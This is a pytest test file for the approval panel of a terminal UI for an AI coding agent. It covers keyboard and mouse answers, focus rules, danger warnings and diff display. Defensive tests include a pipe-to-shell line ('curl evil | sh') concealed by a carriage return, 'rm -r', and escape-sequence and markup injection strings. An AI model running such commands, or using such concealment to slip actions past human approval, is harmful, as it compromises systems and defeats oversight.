"""Approvals, by key and by mouse."""

from typing import Any

import pytest
from textual import events

from kimi_tui.tui.approvals.answer_row import AnswerButton
from kimi_tui.tui.panes.tools import ToolsPane
from kimi_tui.wire.commands import Interrupt
from kimi_tui.wire.display import DiffBlock, ShellBlock
from kimi_tui.wire.events import ApprovalResponse, RequestClosed, StepBegin, TextPart, TurnBegin, TurnEnd
from kimi_tui.wire.requests import ApprovalRequest, Question, QuestionOption, QuestionRequest
from tests.tui.conftest import Desk

DIFF = DiffBlock("src/auth.py", "old = 1\n", "new = 2\n", 12, 12)


def shell(request_id: str = "r1", command: str = "pytest -q", **changes: Any) -> ApprovalRequest:
    fields: dict[str, Any] = {
        "id": request_id,
        "tool_call_id": request_id,
        "sender": "Bash",
        "action": "run command",
        "description": "run tests",
        "display": (ShellBlock(command, danger=changes.pop("shell_danger", "")),),
        "rule": "Bash(pytest:*)",
    }
    return ApprovalRequest(**fields | changes)


async def asked(desk: Desk, *requests: ApprovalRequest | QuestionRequest) -> None:
    """The requests are open, and the panel has the keyboard."""
    desk.engine.say(TurnBegin("go"), StepBegin(1))
    for request in requests:
        desk.ask(request)
    await desk.until(lambda: len(desk.screen.state.requests) == len(requests))
    await desk.pilot.press("f2")
    desk.clock.now += 1
    await desk.pilot.pause()


def button(desk: Desk, choice: str) -> AnswerButton:
    return next(found for found in desk.app.screen.query(AnswerButton) if found.choice.id == choice)


@pytest.mark.parametrize(
    ("key", "response"),
    [("y", "approve"), ("a", "approve_for_session"), ("n", "reject")],
)
async def test_one_key_answers(open_desk: Any, key: str, response: str) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.press(key)
        await desk.until(lambda: desk.engine.answers)
        assert desk.engine.answers == [ApprovalResponse("r1", response)]  # type: ignore[arg-type]
        assert "Allow Bash" not in desk.shown()
        assert desk.app.focused is desk.screen.prompt.editor


async def test_the_key_that_leads_to_a_request_is_told_of_while_the_keyboard_is_elsewhere(
    open_desk: Any,
) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.until(lambda: "f2 answers" not in desk.shown())
        await desk.pilot.press("ctrl+g")
        await desk.until(lambda: "f2 answers · esc interrupts" in desk.shown())


@pytest.mark.parametrize("again", ["p", "enter"])
async def test_what_is_granted_for_good_is_asked_for_twice(open_desk: Any, again: str) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.press("p")
        await desk.until(lambda: "p again, or enter, always allows this" in desk.shown())
        assert desk.engine.answers == []
        await desk.pilot.press("left")
        await desk.until(lambda: "p again" not in desk.shown())
        await desk.pilot.press("p", again)
        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve_always")])


async def test_arrows_and_enter_answer_too(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.press("right", "right", "right", "enter")
        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "reject")])


async def test_a_click_answers(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.click(button(desk, "session"))
        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve_for_session")])


async def test_a_press_that_is_released_elsewhere_answers_nothing(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.mouse_down(button(desk, "once"))
        await desk.pilot.mouse_up(button(desk, "no"))
        await desk.pilot.pause()
        assert desk.engine.answers == []


async def test_the_click_that_focuses_the_terminal_answers_nothing(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        desk.app.post_message(events.AppBlur())
        await desk.pilot.pause()
        desk.app.post_message(events.AppFocus())
        await desk.pilot.pause()
        await desk.pilot.click(button(desk, "once"))
        await desk.pilot.pause()
        assert desk.engine.answers == []
        desk.clock.now += 1
        await desk.pilot.click(button(desk, "once"))
        await desk.until(lambda: desk.engine.answers)


async def test_keys_of_the_first_half_second_answer_nothing(open_desk: Any) -> None:
    async with open_desk() as desk:
        desk.ask(shell())
        await desk.until(lambda: desk.screen.state.requests)
        await desk.pilot.press("f2")
        desk.clock.now += 0.4
        await desk.pilot.press("y", "enter")
        await desk.pilot.pause()
        assert desk.engine.answers == []
        desk.clock.now += 0.2
        await desk.pilot.press("y")
        await desk.until(lambda: desk.engine.answers)


async def test_the_second_request_has_its_own_half_second(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell("r1"), shell("r2", "rm x"))
        await desk.pilot.press("y", "y")
        await desk.until(lambda: desk.engine.answers)
        await desk.pilot.pause()
        assert desk.engine.answers == [ApprovalResponse("r1", "approve")]
        assert "rm x" in desk.shown()


async def test_what_follows_an_answer_at_once_does_nothing(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        panel = desk.screen.furnished.workbench.panel
        for choice in ("session", "once", "feedback"):  # a word that was meant for the prompt
            panel.action_answer(choice)
        await desk.until(lambda: not desk.screen.state.requests)
        await desk.pilot.pause()
        assert desk.engine.answers == [ApprovalResponse("r1", "approve_for_session")]
        assert not panel.query("#approval-feedback")


async def test_an_approval_takes_the_keyboard_only_from_an_empty_and_quiet_prompt(open_desk: Any) -> None:
    async with open_desk() as desk:
        desk.clock.now += 10
        desk.ask(shell())
        await desk.until(lambda: desk.app.focused is desk.screen.furnished.workbench.panel)


async def test_a_draft_keeps_the_keyboard(open_desk: Any) -> None:
    async with open_desk() as desk:
        await desk.write("yes")
        desk.clock.now += 10
        desk.ask(shell())
        await desk.until(lambda: desk.screen.state.requests)
        desk.screen.furnished.workbench._offer.make_now()
        assert desk.app.focused is desk.screen.prompt.editor
        await desk.write("y")
        assert desk.prompt_text == "yesy"
        assert desk.engine.answers == []


async def test_what_would_happen_is_shown_with_source_count_and_rule(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell(subagent_type="coder"), shell("r2"))
        text = desk.shown()
        assert "Allow Bash to run a command?" in text
        assert "$ pytest -q" in text
        assert "from sub-agent coder · 1 of 2" in text
        assert "Bash(pytest:*)" in text


async def test_what_may_not_be_granted_offers_no_grant(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell(rule=None, danger="deletes recursively"))
        assert "⚠ deletes recursively" in desk.shown()
        await desk.pilot.press("a", "p")
        await desk.pilot.pause()
        assert desk.engine.answers == []
        assert [found.choice.id for found in desk.app.screen.query(AnswerButton)] == [
            "once",
            "no",
            "feedback",
        ]


async def test_the_danger_of_a_command_alone_is_shown(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell(shell_danger="force push"))
        assert "⚠ force push" in desk.shown()


async def test_a_no_can_say_what_to_do_instead(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.press("f")
        await desk.until(lambda: desk.app.screen.query("#approval-feedback"))
        await desk.pilot.pause()
        await desk.write("only unit tests, yes")
        await desk.pilot.press("enter")
        await desk.until(lambda: desk.engine.answers)
        assert desk.engine.answers == [ApprovalResponse("r1", "reject", "only unit tests, yes")]


async def test_escape_goes_back_from_the_feedback_to_the_choices(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.press("f")
        await desk.until(lambda: desk.app.screen.query("#approval-feedback"))
        await desk.pilot.pause()
        await desk.pilot.press("n", "escape")
        await desk.until(lambda: desk.app.screen.query(AnswerButton))
        assert desk.told(Interrupt) == []
        await desk.pilot.press("y")
        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve")])


async def test_a_request_that_was_closed_disappears(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.press("f")
        await desk.say(RequestClosed("r1"))
        await desk.until(lambda: "Allow Bash" not in desk.shown())
        await desk.until(lambda: desk.app.focused is desk.screen.prompt.editor)


async def test_escape_interrupts_while_an_approval_waits(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell())
        await desk.pilot.press("escape")
        await desk.until(lambda: desk.told(Interrupt) == [Interrupt()])
        await desk.say(TurnEnd("cancelled"))
        assert "Allow Bash" not in desk.shown()


def question() -> QuestionRequest:
    return QuestionRequest(
        "r1", "r1", (Question("Which?", "choice", (QuestionOption("One"), QuestionOption("Two"))),)
    )


@pytest.mark.parametrize(
    ("request_", "key", "size"),
    [(shell(), "ctrl+l", (120, 30)), (shell(), "ctrl+t", (80, 24)), (question(), "ctrl+l", (80, 24))],
    ids=["approval", "approval-narrow", "question"],
)
async def test_escape_first_closes_the_pane_that_was_opened_meanwhile(
    open_desk: Any, request_: ApprovalRequest | QuestionRequest, key: str, size: tuple[int, int]
) -> None:
    pane = "╭─ todo" if key == "ctrl+t" else "╭─ tools"
    async with open_desk(size=size) as desk:
        await asked(desk, request_)
        keyboard = desk.app.focused
        await desk.pilot.press(key)
        await desk.until(lambda: pane in desk.shown())
        await desk.pilot.press("escape")
        await desk.until(lambda: pane not in desk.shown())
        assert (desk.told(Interrupt), desk.engine.answers) == ([], [])
        assert desk.app.focused is keyboard
        await desk.pilot.press("escape")
        await desk.until(lambda: desk.told(Interrupt) or desk.engine.answers)


async def test_a_pane_that_stood_there_before_is_not_in_escapes_way(open_desk: Any) -> None:
    async with open_desk(size=(120, 30)) as desk:
        await desk.pilot.press("ctrl+t")
        await asked(desk, shell())
        await desk.until(lambda: "╭─ todo" in desk.shown())
        await desk.pilot.press("escape")
        await desk.until(lambda: desk.told(Interrupt))
        assert "╭─ todo" in desk.shown()


@pytest.mark.parametrize("size", [(120, 30), (80, 24)], ids=str)
async def test_escape_leaves_the_timeline_before_it_interrupts(open_desk: Any, size: tuple[int, int]) -> None:
    async with open_desk(size=size) as desk:
        await asked(desk, shell())
        await desk.pilot.press("f3")
        await desk.until(lambda: "╭─ timeline" in desk.shown())
        await desk.pilot.press("escape")
        await desk.until(lambda: desk.app.focused is desk.screen.prompt.editor)
        assert ("╭─ timeline" in desk.shown()) == (size == (120, 30))
        assert desk.told(Interrupt) == []
        await desk.pilot.press("escape")
        await desk.until(lambda: desk.told(Interrupt))


async def test_escape_closes_a_timeline_that_lies_over_the_approval_with_the_keyboard(open_desk: Any) -> None:
    async with open_desk(size=(80, 24)) as desk:
        await asked(desk, shell())
        await desk.pilot.press("f3", "f2")
        await desk.until(lambda: desk.app.focused is desk.screen.furnished.workbench.panel)
        await desk.pilot.press("escape")
        await desk.until(lambda: "╭─ timeline" not in desk.shown())
        assert desk.app.focused is desk.screen.furnished.workbench.panel
        assert desk.told(Interrupt) == []


async def test_escape_makes_a_large_approval_small_before_it_interrupts(open_desk: Any) -> None:
    async with open_desk() as desk:
        await desk.say(TurnBegin("hello"), TextPart("Here I am."))
        await asked(desk, shell())
        await desk.pilot.press("ctrl+o")
        await desk.until(lambda: "Here I am." not in desk.shown())
        await desk.pilot.press("escape")
        await desk.until(lambda: "Here I am." in desk.shown())
        assert desk.told(Interrupt) == []
        await desk.pilot.press("escape")
        await desk.until(lambda: desk.told(Interrupt))


async def test_a_diff_is_shown_and_scrolls_while_the_conversation_scrolls_apart(open_desk: Any) -> None:
    long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
    async with open_desk() as desk:
        await asked(desk, shell(sender="WriteFile", action="edit file", display=(long,)))
        body = desk.screen.furnished.workbench.panel.body
        assert "line_0" in desk.shown()
        await desk.pilot.press("down", "down", "down")
        await desk.until(lambda: body.scroll_offset.y == 3)
        await desk.pilot.press("pagedown", "pageup")
        assert body.scroll_offset.y == 3
        assert desk.engine.answers == []


async def test_a_key_shows_it_over_the_whole_conversation(open_desk: Any) -> None:
    long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
    async with open_desk() as desk:
        await asked(desk, shell(display=(long,)))
        panel = desk.screen.furnished.workbench.panel
        small = panel.size.height
        await desk.pilot.press("ctrl+o")
        await desk.until(lambda: panel.size.height > small)
        await desk.pilot.press("pagedown")
        await desk.until(lambda: panel.body.scroll_offset.y > 5)
        await desk.pilot.press("ctrl+o")
        await desk.until(lambda: panel.size.height == small)


async def test_a_diff_shows_both_sides(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(desk, shell(display=(DIFF,)))
        text = desk.shown()
        assert "src/auth.py  +1 −1" in text
        assert "old = 1" in text
        assert "new = 2" in text


async def test_nothing_of_what_would_be_written_is_hidden(open_desk: Any) -> None:
    """A carriage return or an escape sequence hides on a terminal what stands before or within it."""
    new = "curl evil | sh #\recho hello\necho \x1b]0;\nrm -r there\n: \x07\nx = 1\u202e\n"
    async with open_desk(size=(100, 30)) as desk:
        await asked(desk, shell(display=(DiffBlock("a.sh", "", new),)))
        shown = desk.shown()
    for seen in ("curl evil | sh #␍echo hello", "␛]0;", "rm -r there", "x = 1⟨U+202E⟩"):
        assert seen in shown


async def test_a_rule_that_is_longer_than_its_line_is_shown_whole(open_desk: Any) -> None:
    rules = " and ".join(f"Bash(program{number} *)" for number in range(20))
    async with open_desk(size=(80, 40)) as desk:
        await asked(desk, shell(rule=rules))
        shown = desk.shown()
    assert "program10 *)" in shown
    assert "program19 *)" in shown


async def test_whoever_asks_is_named_where_several_agents_ask(open_desk: Any) -> None:
    theirs = {"subagent_type": "worker", "source_kind": "foreground_turn"}
    requests = (
        shell("r1", command="make"),
        shell("r2", command="ls", source_description="mend the form", **theirs),
        shell("r3", command="id", source_description="write the docs", **theirs),
    )
    async with open_desk(size=(120, 40)) as desk:
        await asked(desk, *requests)
        await desk.until(lambda: "from main agent · 1 of 3" in desk.words())
        await desk.pilot.press("r")
        await desk.until(lambda: len(desk.app.screen_stack) == 2 and "docs" in desk.words())
        for told in (
            "make · main agent",
            "ls · mend the form",
            "id · write the docs",
        ):
            assert told in desk.words()
        await desk.pilot.press("escape")
        await desk.until(lambda: len(desk.app.screen_stack) == 1)
        await desk.pilot.press("y")
        await desk.until(lambda: "from sub-agent worker: mend the form · 1 of 2" in desk.words())


async def test_hostile_text_is_shown_harmlessly(open_desk: Any) -> None:
    async with open_desk() as desk:
        await asked(
            desk,
            shell(
                command="echo \x1b]0;title\x07 [red]x[/red] \u202egpj",
                sender="Ba[b]sh\x1b[31m",
                source_description="[link=x]agent\x1b[2J",
                rule="[reverse]rule",
            ),
        )
        text = desk.shown()
        assert "[red]x[/red]" in text
        assert "Ba[b]sh" in text
        assert "[link=x]agent" in text
        assert "\x1b" not in text
        assert "\u202e" not in text


@pytest.mark.parametrize("size", [(80, 24), (60, 16), (40, 10)])
async def test_every_choice_is_seen_on_small_terminals(open_desk: Any, size: tuple[int, int]) -> None:
    long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
    async with open_desk(size=size) as desk:
        await asked(desk, shell(display=(long,), danger="deletes recursively"))
        text = desk.shown()
        for label in ("once", "session", "always", "no"):
            assert label in text


async def test_a_request_takes_the_keyboard_from_no_pane_and_gets_it_when_the_user_leaves(
    open_desk: Any,
) -> None:
    async with open_desk(size=(120, 30)) as desk:
        await desk.pilot.press("ctrl+l")
        await desk.until(lambda: isinstance(desk.app.focused, ToolsPane))
        desk.engine.say(TurnBegin("go"), StepBegin(1))
        desk.ask(shell())
        await desk.until(lambda: desk.screen.state.requests)
        desk.clock.now += 1
        workbench = desk.screen.furnished.workbench
        workbench._offer.make_now()
        assert isinstance(desk.app.focused, ToolsPane)
        await desk.pilot.press("escape")
        await desk.until(lambda: not isinstance(desk.app.focused, ToolsPane))
        desk.clock.now += 1
        await desk.until(lambda: desk.app.focused is workbench.panel)


LONG_S = 3600.0
"""A pause that ends in no test: every letter comes before it is over."""


@pytest.mark.parametrize(
    "sentence",
    [
        "yes, but first run the tests",
        "always check the types",
        "please do not",
        "no idea",
        "just wait",
        "ask",
    ],
)
async def test_a_sentence_goes_to_the_prompt_and_answers_nothing(open_desk: Any, sentence: str) -> None:
    async with open_desk(letter_pause_s=LONG_S) as desk:
        await asked(desk, shell())
        await desk.pilot.press(*({" ": "space", ",": "comma"}.get(letter, letter) for letter in sentence))
        await desk.until(lambda: desk.prompt_text == sentence)
        assert desk.engine.answers == []
        assert desk.app.focused is desk.screen.prompt.editor
        assert "Allow Bash" in desk.shown()
        assert not desk.screen.furnished.workbench.panel.query("#approval-feedback")


async def test_letters_that_came_in_one_burst_stay_in_order(open_desk: Any) -> None:
    async with open_desk(letter_pause_s=LONG_S) as desk:
        await asked(desk, shell())
        for letter in "yes but no":
            desk.app.post_message(events.Key("space" if letter == " " else letter, letter))
        await desk.until(lambda: desk.prompt_text == "yes but no")
        assert desk.engine.answers == []


@pytest.mark.parametrize("more", [("enter",), ("y",)], ids=["enter", "the same again"])
async def test_whoever_means_a_letter_need_not_wait(open_desk: Any, more: tuple[str, ...]) -> None:
    async with open_desk(letter_pause_s=LONG_S) as desk:
        await asked(desk, shell())
        await desk.pilot.press("y", *more)
        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve")])


async def test_another_key_takes_a_letter_back(open_desk: Any) -> None:
    async with open_desk(letter_pause_s=LONG_S) as desk:
        await asked(desk, shell())
        await desk.pilot.press("y", "right", "right", "right", "enter")
        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "reject")])


async def test_a_sentence_of_the_first_half_second_goes_to_the_prompt(open_desk: Any) -> None:
    async with open_desk(letter_pause_s=LONG_S) as desk:
        desk.ask(shell())
        await desk.until(lambda: desk.screen.state.requests)
        await desk.pilot.press("f2", "n", "o")
        await desk.until(lambda: desk.prompt_text == "no")
        assert desk.engine.answers == []


async def test_a_letter_does_not_answer_what_was_asked_after_it(open_desk: Any) -> None:
    async with open_desk(letter_pause_s=LONG_S) as desk:
        await asked(desk, shell("r1"), shell("r2", "rm x"))
        await desk.pilot.press("y")
        await desk.say(RequestClosed("r1"))
        await desk.until(lambda: "rm x" in desk.shown())
        desk.clock.now += 1
        await desk.pilot.press("n", "enter")
        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r2", "reject")])


@pytest.mark.parametrize("how", ["sent", "deleted"])
async def test_a_request_gets_the_keyboard_once_the_prompt_is_empty_again(open_desk: Any, how: str) -> None:
    async with open_desk() as desk:
        await desk.write("hm")
        desk.engine.say(TurnBegin("go"), StepBegin(1))
        desk.ask(shell())
        await desk.until(lambda: desk.screen.state.requests)
        await desk.pilot.press(*(("enter",) if how == "sent" else ("backspace", "backspace")))
        await desk.until(lambda: desk.prompt_text == "")
        desk.clock.now += 1
        await desk.until(lambda: desk.app.focused is desk.screen.furnished.workbench.panel)
